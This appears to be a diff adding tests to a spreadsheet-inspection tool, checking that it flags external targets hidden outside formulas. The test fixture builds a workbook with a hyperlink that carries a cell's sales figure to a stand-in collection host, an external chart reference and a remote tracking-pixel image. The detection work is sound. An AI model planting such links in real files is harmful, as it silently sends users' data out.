@@ -198,3 +198,59 @@ def test_inspect_finds_network_formulas_outside_cells(tmp_path):
         "data validation on Sales Q1!A2:A9": ["FILTERXML", "WEBSERVICE"],
     }
     assert report["networkFormulaCount"] == 3
+
+
+def linked_workbook(path):
+    """Addresses outside the workbook where no formula shows them: a hyperlink whose address
+    carries a cell's data, a chart series read from another workbook, a linked picture."""
+    import zipfile
+    from openpyxl.chart import BarChart, Reference
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.title = "Sales"
+    for row in (["Region", "Sales"], ["North", 1200], ["South", 900]):
+        ws.append(row)
+    ws["C2"].hyperlink = "https://x.example/collect?d=" + str(ws["B2"].value)
+    ws["D2"].hyperlink = "#Sales!A1"  # a jump inside the workbook: not reported
+    chart = BarChart()
+    chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
+    ws.add_chart(chart, "F2")
+    plain = str(path) + ".plain.xlsx"
+    wb.save(plain)
+    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(path, "w") as out:
+        for item in src.infolist():
+            data = src.read(item.filename)
+            if item.filename.startswith("xl/charts/chart"):
+                data = data.replace(b"<f>'Sales'!$B$2:$B$3</f>", b"<f>[1]Sales!$B$2:$B$3</f>")
+            if item.filename == "xl/drawings/_rels/drawing1.xml.rels":
+                data = data.replace(b"</Relationships>", b'<Relationship Id="rIdPic" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="https://x.example/pixel.png" TargetMode="External"/></Relationships>')
+            out.writestr(item, data)
+
+
+def test_inspect_finds_links_chart_references_and_linked_pictures(tmp_path):
+    out = run_script(tmp_path, {"mode": "inspect", "files": ["linked.xlsx"]}, {"linked.xlsx": linked_workbook})
+    [report] = json.loads((out / "inspect-report.json").read_text(encoding="utf-8"))
+    assert report["externalTargets"] == [
+        {"kind": "link", "target": "https://x.example/collect?d=1200", "place": "link on Sales!C2"},
+        {"kind": "linked picture", "target": "https://x.example/pixel.png", "place": "in xl/drawings/drawing1.xml"},
+    ]
+    assert report["externalTargetCount"] == 2
+    assert [(f["place"], f["reasons"]) for f in report["networkFormulas"]] == [
+        ("chart series in xl/charts/chart1.xml", ["external reference"])]
+
+
+def test_a_plain_chart_and_internal_links_are_not_findings(tmp_path):
+    def plain(path):
+        from openpyxl.chart import LineChart, Reference
+        wb = openpyxl.Workbook()
+        ws = wb.active
+        for row in (["Month", "Sales"], [1, 10], [2, 20]):
+            ws.append(row)
+        ws["D1"].hyperlink = "#Sheet!A1"
+        chart = LineChart()
+        chart.add_data(Reference(ws, min_col=2, min_row=1, max_row=3), titles_from_data=True)
+        ws.add_chart(chart, "E2")
+        wb.save(path)
+    out = run_script(tmp_path, {"mode": "inspect", "files": ["plain.xlsx"]}, {"plain.xlsx": plain})
+    [report] = json.loads((out / "inspect-report.json").read_text(encoding="utf-8"))
+    assert (report["externalTargets"], report["networkFormulas"], report["externalLinks"]) == ([], [], [])
